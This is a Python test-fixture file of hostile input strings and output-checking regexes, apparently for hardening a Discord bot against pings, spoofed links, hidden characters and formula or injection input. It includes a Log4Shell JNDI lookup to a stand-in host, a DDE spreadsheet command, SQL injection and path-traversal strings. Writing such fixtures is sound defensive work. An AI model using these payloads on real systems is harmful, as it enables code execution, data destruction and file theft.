"""Two hundred strings that somebody might type to ping, link, format, mislead, break a table or break the program.

Ids in them begin with 666, hosts are ``evil.example`` and words ``pwn``, so that what survives is told from the bot's own
text by :data:`POWER`.
"""

import re

ID = "666000000000000001"
_MENTIONS = [
    "@everyone", "@here", "＠everyone", "@\u200beveryone @everyone", "pwn@everyone", "(@everyone)", "`@everyone`",
    f"<@{ID}>", f"<@!{ID}>", f"<@&{ID}>", f"<#{ID}>", f"<id:{ID}>", "<id:customize>", "<id:browse>", "<id:guide>",
    f"\\<@{ID}>", f"\\\\<@{ID}>", f"<\u200b@{ID}>", f"<@\u200b{ID}>", f"<@{ID}", f"@<@{ID}>", f"<<@{ID}>>",
    f"<@&\u2060{ID}>", f"<@{ID}><@{ID}>", f"x<@{ID}>y", f"<\n@{ID}>", f"</pwn:{ID}>", f"</pwn show:{ID}>",
    f"</pwn show all:{ID}>", f"<\\@{ID}>",
]  # fmt: skip
_TIMES_AND_EMOJI = [
    "<t:6660000000>", "<t:6660000000:R>", "<t:6660000000:F>", "<t:-666:R>", f"<:pwn:{ID}>", f"<a:pwn:{ID}>",
    ":pwn:", ":skull_crossbones:", f"<:pwn:{ID}", "\\<t:6660000000:R>", "😀", "👩‍👩‍👧‍👦",
    "🇵🇰🇪🇬", "👍🏽",
    "\U0001f3f4\U000e0067\U000e007f",
]  # fmt: skip
_MARKDOWN = [
    "**pwn**", "*pwn*", "_pwn_", "__pwn__", "***pwn***", "~~pwn~~", "||pwn||", "`pwn`", "``pwn``", "```pwn```",
    "```py\npwn\n```", "```ansi\n\x1b[31mpwn\n```", "# pwn", "## pwn", "### pwn", "-# pwn", "> pwn", ">>> pwn",
    "- pwn", "* pwn", "1. pwn", "a\n# pwn", "a\n> pwn", "a\n- pwn", "a\r\n## pwn", "\\**pwn\\**", "\\\\**pwn\\\\**",
    "**pwn", "pwn**", "||pwn", "```pwn", "`pwn", "~~pwn", "__**~~||pwn||~~**__", "\t# pwn", " # pwn", "#pwn", ">pwn",
]  # fmt: skip
_LINKS = [
    "https://evil.example", "http://evil.example", "HTTPS://EVIL.EXAMPLE", "hTtPs://evil.example/pwn",
    "[pwn](https://evil.example)", "[pwn](<https://evil.example>)", '[pwn](https://evil.example "title")',
    "[https://aamc.org](https://evil.example)", "[ ](https://evil.example)", "[pwn] (https://evil.example)",
    "[pwn](evil.example)", "![pwn](https://evil.example/x.png)", "<https://evil.example>", "discord://-/pwn",
    "discord.gg/pwn", "https://discord.gg/pwn", "discord.com/invite/pwn", "www.evil.example", "WWW.EVIL.EXAMPLE",
    "ftp://evil.example", "steam://run/pwn", "javascript:pwn()", "data:text/html,pwn", "file:///etc/passwd",
    "mailto:pwn@evil.example", "tel:+666", "https:/\u200b/evil.example", "https\u200b://evil.example",
    "https://user:pwn@evil.example", "https://evil.example/[pwn]", "https://evil.example/)[pwn](https://evil.example",
    "//evil.example", "https://аamc.org.evil.example", "[pwn]: https://evil.example", "](https://evil.example)",
]  # fmt: skip
_DIRECTION = [
    "\u202epwn", "\u202dpwn", "\u202apwn\u202c", "\u202bpwn", "\u2066pwn\u2069", "\u2067pwn", "\u2068pwn",
    "\u200epwn", "\u200fpwn", "\u061cpwn", "gnp\u202eexe.pwn", "مرحبا", "שלום pwn", "\u202e@everyone", "أهلا 123 pwn",
]  # fmt: skip
_INVISIBLE = [
    "", " ", "\t", "\n", "\r", "\u200b", "\u200b\u200c\u200d\ufeff", "p\u200bw\u200bn", "\u00ad", "\u2060", "\u180e",
    "\u3164", "\u115f", "\u2800", "\x00", "p\x00wn", "\x1b[31mpwn\x1b[0m", "\x07", "\x08pwn", "\x7f", "\x85",
    "\u2028pwn", "\u2029pwn", "\ufffe", "\uffff", "\ud800", "pwn\udfff", "\ue000", "\U000e0001", "\U0010ffff",
]  # fmt: skip
_LONG = [
    "a" * 6000, "@everyone " * 600, "*" * 4000, "\\" * 3999, "e" + "\u0301" * 3000, "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L" * 50, "\u202e" * 500,
    "😀" * 1500, "\n" * 2000, "﷽" * 500, "[" * 2000, "`" * 3000, "<@" * 2000, "0" * 5000, "9" * 4500,
]  # fmt: skip
_FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example","pwn")', "+1+1", "-1+1", "@SUM(1)", "\t=1+1",
    "\r=1+1", "\n=1+1", " =1+1", "=", "＝1+1", '"=1+1', "'=1+1", "%0A=1+1", ";=1+1", ",=1+1", "a,b\n=1+1",
]  # fmt: skip
_INJECTIONS = [
    "' OR 1=1 --", "'; DROP TABLE member; --", "%s%s%s%n", "{0.__class__}", "{count}", "{{7*7}}", "${jndi:ldap://evil.example}",
    "../../etc/passwd", "<script>pwn</script>", "<!-- pwn", "&lt;@everyone&gt;", "null", "None", "NaN", "-0", "1e309",
    "0x10", "１２３", "²", "Ⅷ", "true", "__proto__", "\\u0040everyone", "&#64;everyone",
]  # fmt: skip
CORPUS = tuple(
    dict.fromkeys(
        _MENTIONS
        + _TIMES_AND_EMOJI
        + _MARKDOWN
        + _LINKS
        + _DIRECTION
        + _INVISIBLE
        + _LONG
        + _FORMULAS
        + _INJECTIONS
    )
)
"""All of them, each once, always in this order."""
POWER = re.compile(
    r"<(?:@[!&]?|#|id:|/[^>:]*:|t:-?|a?:\w+:)666|<id:[cbg]|(?<!\\)</pwn"  # mentions, times, emoji, commands
    r"|@everyone|@here"
    r"|(?i:\w://\S*(?:evil|pwn|etc)|\bwww\.evil|discord\.(?:gg|com)/(?!channels/)|\]\(\S*evil)"
    r"|(?<!\\)(?:\\\\)*(?:[*_~|`]+|(?m:^[#>-]+ ?))pwn"
    r"|[\u202a-\u202e\u2066-\u2069\u200c-\u200f\u061c\ufeff\u2060\u00ad\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff]"
)
"""What no message may hold after one of them was typed. Zero-width spaces are what the bot itself breaks them with."""
FORMULA = re.compile(r"\s*[=+\-@＝]")
"""The beginning of a cell that a spreadsheet runs."""
